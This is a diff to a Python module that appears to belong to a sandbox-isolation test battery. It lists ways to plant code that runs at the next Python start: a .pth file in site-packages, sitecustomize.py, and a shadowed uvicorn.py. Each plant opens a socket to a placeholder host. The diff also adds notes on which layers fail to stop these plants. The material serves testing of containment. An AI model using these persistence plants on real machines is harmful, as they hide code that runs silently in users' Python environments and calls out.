@@ -5,9 +5,13 @@ What was planted connects when the guard starts its sidecar again, or at the nex
 
 from __future__ import annotations
 
+from collections.abc import Mapping
+
 from airgap.battery.way import Way
 
 _SILENT = {"both": "a file that is written names no place"}
+_LATER = {"seccomp": "this layer cannot keep files from being written: the next start may run them"}
+_OWN_FOLDER = {"both": "a folder in the user's own PYTHONPATH, which every Python of theirs reads"}
 _HEAD = """
 CODE = (f"import socket\\ntry: socket.create_connection(({OUT!r}, {PORT}), 2).send({WORD!r})\\n"
         "except OSError: pass\\n")
@@ -54,8 +58,8 @@ while not ask_guards_door("/api/version") and time.monotonic() < until: pass
 """
 
 
-def _plant(name: str, code: str) -> Way:
-    return Way(f"plant-{name}", "the guard's files", _HEAD + code, silent=_SILENT)
+def _plant(name: str, code: str, later: Mapping[str, str] = _LATER) -> Way:
+    return Way(f"plant-{name}", "the guard's files", _HEAD + code, silent=_SILENT, later=later)
 
 
 WAYS = (
@@ -64,8 +68,8 @@ WAYS = (
     _plant("compiled", _COMPILED),
     _plant("start-file", "open(f'{PREFIX}/lib/' + os.listdir(f'{PREFIX}/lib')[0] + '/site-packages/x.pth', 'w')"
            ".write('import socket; exec(' + repr(CODE) + ')\\n')"),
-    _plant("python-path", "open(f'{HOME}/.pylib/sitecustomize.py', 'w').write(CODE)"),
-    _plant("shadow", "open(f'{HOME}/.pylib/uvicorn.py', 'w').write(CODE + REAL)"),
+    _plant("python-path", "open(f'{HOME}/.pylib/sitecustomize.py', 'w').write(CODE)", _OWN_FOLDER),
+    _plant("shadow", "open(f'{HOME}/.pylib/uvicorn.py', 'w').write(CODE + REAL)", _OWN_FOLDER),
     _plant("programs", _PROGRAMS),
     _plant("interpreter", _INTERPRETER),
     Way("sidecar-killed", "the guard's files", _AGAIN + "speak()"),
